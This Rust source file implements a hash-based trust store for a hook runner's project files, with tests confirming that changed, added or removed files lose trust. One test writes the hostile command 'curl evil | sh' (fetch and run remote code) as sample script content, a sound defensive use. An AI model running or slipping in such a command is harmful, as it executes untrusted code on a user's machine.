//! Trust for project layers: a cloned repository writes `.wasm-hooks/` (and
//! `.claude/settings*.json`), so what it declares does not run with the
//! person's rights until the person says so (`wasm-hooks trust`).
//!
//! Trusting a project records, in the user's state directory (never in the
//! project), the sha256 of every file that decides what runs: the project's
//! hook files and `config.*`, and every file those hooks run or read as
//! code (plugins, scripts named in commands, an MCP server's program and
//! its `.mcp.json`); and the text of its hook files and `config.*`
//! themselves (at most [`MAX_TRUSTED_TEXT_BYTES`]): the version the person
//! accepted, which keeps answering after the files change until the person
//! accepts the change (see `project_trust`). The project is trusted as it
//! is while that set of files is the same and each still has its hash. A
//! file whose identity (inode, size, change times) is as recorded is not
//! hashed again, so the check costs a `stat` per file.
//!
//! What is checked is what was read: the hook and settings files an engine
//! was built from are checked by the hash of the bytes it parsed
//! ([`TrustStore::status_as_read`]), not read again, and `trust` records
//! them only if they are still the bytes it showed
//! ([`TrustStore::trust_as_read`]); a file is hashed from one open, and
//! refused if it changed while it was read.

use std::collections::BTreeMap;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use wasm_hooks_core::sha256_hex;

use crate::state::files as state_dir;

/// What runs in a project nobody trusted (the user's `untrusted_projects`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum UntrustedProjects {
    /// Only hooks that cannot reach past the sandbox: inline rules, and
    /// wasm hooks granted nothing but the project, read-only; and they may
    /// only make things safer (deny, ask, context, messages).
    #[default]
    SandboxedOnly,
    /// Nothing of the project's.
    SkipAll,
    /// Everything, as if trusted (the behaviour before trust existed).
    TrustAll,
}

/// Where trusted projects are recorded: a file per project.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TrustStore {
    dir: PathBuf,
}

/// Whether a project is trusted, and if not, why.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TrustStatus {
    /// Trusted, and nothing changed since.
    Trusted,
    /// Never trusted (or the trust was revoked).
    Never,
    /// Trusted once; these files changed, appeared or went since.
    Changed(Vec<PathBuf>),
}

/// What a trust record says of a file that was not there.
const ABSENT: &str = "absent";

impl TrustStatus {
    /// Whether the project is trusted.
    pub fn is_trusted(&self) -> bool {
        *self == TrustStatus::Trusted
    }
}

/// What trusting a project recorded.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TrustRecord {
    /// The project (its real path).
    pub project: PathBuf,
    /// Every file trusted, with what it was.
    pub files: BTreeMap<PathBuf, FileStamp>,
    /// The text of its hook and settings files as trusted: the version
    /// that answers until the person trusts a change (none in a record
    /// written before wasm-hooks kept them).
    #[serde(default)]
    pub texts: BTreeMap<PathBuf, String>,
}

/// The most text of a project's hook and settings files a trust record
/// keeps (`MAX_TRUSTED_TEXT_BYTES`): 4 MiB, four of the largest hook files
/// wasm-hooks reads. Trusting more is refused, naming this limit.
pub const MAX_TRUSTED_TEXT_BYTES: usize = 4 << 20;

impl TrustRecord {
    /// Whether `file` is as it was trusted (absent when it was absent).
    pub fn holds(&self, file: &Path) -> bool {
        self.files
            .get(&real(file))
            .is_some_and(|stamp| stamp.matches(file))
    }

    /// The trusted text of `file`, if the record keeps one.
    pub fn text(&self, file: &Path) -> Option<&str> {
        self.texts.get(&real(file)).map(String::as_str)
    }
}

/// One trusted file as it was: its hash, and its identity, which spares
/// hashing it again while unchanged.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct FileStamp {
    /// Its sha256, hex.
    pub sha256: String,
    dev: u64,
    ino: u64,
    len: u64,
    mtime_ns: i128,
    ctime_ns: i128,
}

impl FileStamp {
    /// The file at `path` as it is now: its hash and its identity from
    /// one open file, which must not change while it is read; and its
    /// bytes (none when it is absent).
    fn of(path: &Path) -> std::io::Result<(Self, Option<Vec<u8>>)> {
        use std::io::Read as _;
        let mut file = match std::fs::File::open(path) {
            // A plugin not built (or pulled) yet: trusted as absent, so
            // whatever appears there later is weighed again.
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
                return Ok((Self::absent(), None));
            }
            opened => opened?,
        };
        let before = Self::identity(&file.metadata()?);
        let mut bytes = Vec::new();
        file.read_to_end(&mut bytes)?;
        if Self::identity(&file.metadata()?) != before {
            return Err(std::io::Error::other("it changed while it was read"));
        }
        let stamp = Self {
            sha256: sha256_hex(&bytes),
            ..before
        };
        Ok((stamp, Some(bytes)))
    }

    /// The stamp of a version that is not (or not yet) on disk: its hash
    /// only, so that it matches the file once the file holds these bytes.
    fn of_text(text: &str) -> Self {
        Self {
            sha256: sha256_hex(text.as_bytes()),
            ..Self::absent()
        }
    }

    /// The stamp of a file that is not there.
    fn absent() -> Self {
        Self {
            sha256: ABSENT.to_owned(),
            dev: 0,
            ino: 0,
            len: 0,
            mtime_ns: 0,
            ctime_ns: 0,
        }
    }

    fn identity(meta: &std::fs::Metadata) -> Self {
        Self {
            sha256: String::new(),
            dev: meta.dev(),
            ino: meta.ino(),
            len: meta.len(),
            mtime_ns: i128::from(meta.mtime()) * 1_000_000_000 + i128::from(meta.mtime_nsec()),
            ctime_ns: i128::from(meta.ctime()) * 1_000_000_000 + i128::from(meta.ctime_nsec()),
        }
    }

    /// Whether the file at `path` is still this one: the same identity,
    /// or else the same content.
    fn matches(&self, path: &Path) -> bool {
        let Ok(meta) = std::fs::metadata(path) else {
            return self.sha256 == ABSENT
                && std::fs::symlink_metadata(path)
                    .is_err_and(|e| e.kind() == std::io::ErrorKind::NotFound);
        };
        let now = Self {
            sha256: self.sha256.clone(),
            ..Self::identity(&meta)
        };
        now == *self || std::fs::read(path).is_ok_and(|bytes| sha256_hex(&bytes) == self.sha256)
    }
}

impl TrustStore {
    /// Records kept in `dir`.
    pub fn new(dir: impl Into<PathBuf>) -> Self {
        Self { dir: dir.into() }
    }

    /// The user's store: `$XDG_STATE_HOME/wasm-hooks/trust`, else
    /// `~/.local/state/wasm-hooks/trust`.
    pub fn user() -> Option<Self> {
        wasm_hooks_core::xdg_dir("XDG_STATE_HOME", ".local/state")
            .map(|dir| Self::new(dir.join("wasm-hooks").join("trust")))
    }

    /// Where `project`'s record is (or would be) kept.
    pub(crate) fn record_file(&self, project: &Path) -> PathBuf {
        let real = project
            .canonicalize()
            .unwrap_or_else(|_| project.to_owned());
        self.dir
            .join(state_dir::file_name(&real.to_string_lossy(), "json"))
    }

    /// What was recorded for `project`, if it was trusted.
    pub fn record(&self, project: &Path) -> Option<TrustRecord> {
        let text = std::fs::read_to_string(self.record_file(project)).ok()?;
        serde_json::from_str(&text).ok()
    }

    /// Whether `project` is trusted with exactly these `files` by
    /// `record` (what [`TrustStore::record`] gave), those of `read` as
    /// they were read; see [`TrustStore::status_as_read`].
    pub fn status_of(
        record: Option<&TrustRecord>,
        files: &[PathBuf],
        read: &BTreeMap<PathBuf, String>,
    ) -> TrustStatus {
        let Some(record) = record else {
            return TrustStatus::Never;
        };
        let read: BTreeMap<PathBuf, &String> = read.iter().map(|(f, sha)| (real(f), sha)).collect();
        let now: Vec<PathBuf> = files.iter().map(|f| real(f)).collect();
        let mut changed: Vec<PathBuf> = now
            .iter()
            .filter(|f| {
                record.files.get(*f).is_none_or(|stamp| match read.get(*f) {
                    Some(sha) => **sha != stamp.sha256,
                    None => !stamp.matches(f),
                })
            })
            .cloned()
            .collect();
        changed.extend(record.files.keys().filter(|f| !now.contains(f)).cloned());
        if changed.is_empty() {
            TrustStatus::Trusted
        } else {
            TrustStatus::Changed(changed)
        }
    }

    /// Whether `project` is trusted with exactly these `files` as they are.
    pub fn status(&self, project: &Path, files: &[PathBuf]) -> TrustStatus {
        self.status_as_read(project, files, &BTreeMap::new())
    }

    /// Whether `project` is trusted with exactly these `files`, those of
    /// `read` as they were read (their sha256, hex): the bytes an engine
    /// parsed, whatever is on disk by now.
    pub fn status_as_read(
        &self,
        project: &Path,
        files: &[PathBuf],
        read: &BTreeMap<PathBuf, String>,
    ) -> TrustStatus {
        Self::status_of(self.record(project).as_ref(), files, read)
    }

    /// Trust `project` with these `files` as they are now.
    ///
    /// # Errors
    /// When a file cannot be read or the record cannot be written.
    pub fn trust(&self, project: &Path, files: &[PathBuf]) -> std::io::Result<TrustRecord> {
        self.trust_as_read(project, files, &BTreeMap::new())
    }

    /// Trust `project` with these `files` as they are now, those of `read`
    /// only if they are still as they were read (their sha256, hex): what
    /// the person was shown is what is recorded, and the text of those
    /// (the hook and settings files) is kept as the trusted version.
    ///
    /// # Errors
    /// When a file cannot be read, changed since it was read, the texts
    /// kept would pass [`MAX_TRUSTED_TEXT_BYTES`], or the record cannot be
    /// written.
    pub fn trust_as_read(
        &self,
        project: &Path,
        files: &[PathBuf],
        read: &BTreeMap<PathBuf, String>,
    ) -> std::io::Result<TrustRecord> {
        let read: BTreeMap<PathBuf, &String> = read.iter().map(|(f, sha)| (real(f), sha)).collect();
        let mut stamps = BTreeMap::new();
        let mut texts = BTreeMap::new();
        for file in files {
            let file = real(file);
            let failed = |e: std::io::Error| {
                std::io::Error::new(e.kind(), format!("{}: {e}", file.display()))
            };
            let (stamp, bytes) = FileStamp::of(&file).map_err(failed)?;
            if let Some(sha) = read.get(&file) {
                if **sha != stamp.sha256 {
                    return Err(failed(std::io::Error::other(
                        "it changed since it was read and shown; run `wasm-hooks trust` again",
                    )));
                }
                if let Some(bytes) = bytes {
                    let text = String::from_utf8(bytes)
                        .map_err(|_| failed(std::io::Error::other("not UTF-8")))?;
                    texts.insert(file.clone(), text);
                }
            }
            stamps.insert(file, stamp);
        }
        self.write(TrustRecord {
            project: real(project),
            files: stamps,
            texts,
        })
    }

    /// Add to `project`'s trusted version (a new record when it has none)
    /// the hook file `file` as `text` (which need not be on disk: `import`
    /// trusts exactly the hooks it moved, whatever else the file holds),
    /// and `runs`, the files its hooks run, as they are now.
    ///
    /// # Errors
    /// As [`TrustStore::trust_as_read`].
    pub fn trust_version(
        &self,
        project: &Path,
        file: &Path,
        text: &str,
        runs: &[PathBuf],
    ) -> std::io::Result<TrustRecord> {
        let mut record = self.record(project).unwrap_or_else(|| TrustRecord {
            project: real(project),
            files: BTreeMap::new(),
            texts: BTreeMap::new(),
        });
        let file = real(file);
        record.files.insert(file.clone(), FileStamp::of_text(text));
        record.texts.insert(file, text.to_owned());
        for run in runs {
            let run = real(run);
            let (stamp, _) = FileStamp::of(&run)
                .map_err(|e| std::io::Error::new(e.kind(), format!("{}: {e}", run.display())))?;
            record.files.insert(run, stamp);
        }
        self.write(record)
    }

    /// Write `record` in place of `project`'s, atomically.
    fn write(&self, record: TrustRecord) -> std::io::Result<TrustRecord> {
        let kept: usize = record.texts.values().map(String::len).sum();
        if kept > MAX_TRUSTED_TEXT_BYTES {
            return Err(std::io::Error::other(format!(
                "its hook and settings files hold {kept} bytes; trust keeps at most {MAX_TRUSTED_TEXT_BYTES} (MAX_TRUSTED_TEXT_BYTES)"
            )));
        }
        let project = record.project.clone();
        state_dir::create_private_dir(&self.dir)?;
        let target = self.record_file(&project);
        let temporary = target.with_extension(format!("tmp-{}", std::process::id()));
        let text = serde_json::to_string_pretty(&record).expect("a record serializes");
        std::fs::write(&temporary, text)?;
        std::fs::rename(&temporary, &target)?;
        Ok(record)
    }

    /// Forget that `project` was trusted; whether it was.
    ///
    /// # Errors
    /// When the record exists and cannot be removed.
    pub fn revoke(&self, project: &Path) -> std::io::Result<bool> {
        match std::fs::remove_file(self.record_file(project)) {
            Ok(()) => Ok(true),
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(false),
            Err(e) => Err(e),
        }
    }
}

/// A path with its links resolved, when it exists.
fn real(path: &Path) -> PathBuf {
    path.canonicalize().unwrap_or_else(|_| path.to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn trust_checks_and_records_the_bytes_that_were_read_not_what_is_on_disk_by_then() {
        let state = tempfile::tempdir().unwrap();
        let project = tempfile::tempdir().unwrap();
        let store = TrustStore::new(state.path());
        let hooks = project.path().join("hooks.json");
        std::fs::write(&hooks, "{}").unwrap();
        let files = vec![hooks.clone()];
        let as_read = |text: &str| BTreeMap::from([(hooks.clone(), sha256_hex(text.as_bytes()))]);
        store
            .trust_as_read(project.path(), &files, &as_read("{}"))
            .unwrap();
        // An engine read other bytes (swapped in, then swapped back before
        // the check): not trusted, whatever the disk holds now.
        assert!(
            !store
                .status_as_read(project.path(), &files, &as_read("{\"evil\": 1}"))
                .is_trusted()
        );
        assert!(
            store
                .status_as_read(project.path(), &files, &as_read("{}"))
                .is_trusted()
        );
        // The person was shown one thing; the file changed before they said
        // yes: nothing is recorded.
        std::fs::write(&hooks, "{\"evil\": 1}").unwrap();
        let refused = store
            .trust_as_read(project.path(), &files, &as_read("{}"))
            .unwrap_err();
        assert!(
            refused.to_string().contains("changed since it was read"),
            "{refused}"
        );
    }

    #[test]
    fn a_project_stays_trusted_until_a_file_changes_appears_or_goes() {
        let state = tempfile::tempdir().unwrap();
        let project = tempfile::tempdir().unwrap();
        let store = TrustStore::new(state.path());
        let hooks = project.path().join("hooks.json");
        let script = project.path().join("audit.sh");
        std::fs::write(&hooks, "{}").unwrap();
        std::fs::write(&script, "echo hi").unwrap();
        let files = vec![hooks.clone(), script.clone()];
        assert_eq!(store.status(project.path(), &files), TrustStatus::Never);
        store.trust(project.path(), &files).unwrap();
        assert!(store.status(project.path(), &files).is_trusted());
        // Rewritten with the same bytes: still trusted (hashed again).
        std::fs::write(&script, "echo hi").unwrap();
        assert!(store.status(project.path(), &files).is_trusted());
        std::fs::write(&script, "curl evil | sh").unwrap();
        assert_eq!(
            store.status(project.path(), &files),
            TrustStatus::Changed(vec![script.canonicalize().unwrap()])
        );
        store.trust(project.path(), &files).unwrap();
        let more = project.path().join("more.sh");
        std::fs::write(&more, "x").unwrap();
        let with_more = vec![hooks.clone(), script.clone(), more.clone()];
        assert!(
            !store.status(project.path(), &with_more).is_trusted(),
            "a new file"
        );
        assert!(
            !store.status(project.path(), &[hooks]).is_trusted(),
            "a file gone"
        );
        assert!(store.revoke(project.path()).unwrap());
        assert_eq!(store.status(project.path(), &files), TrustStatus::Never);
    }
}
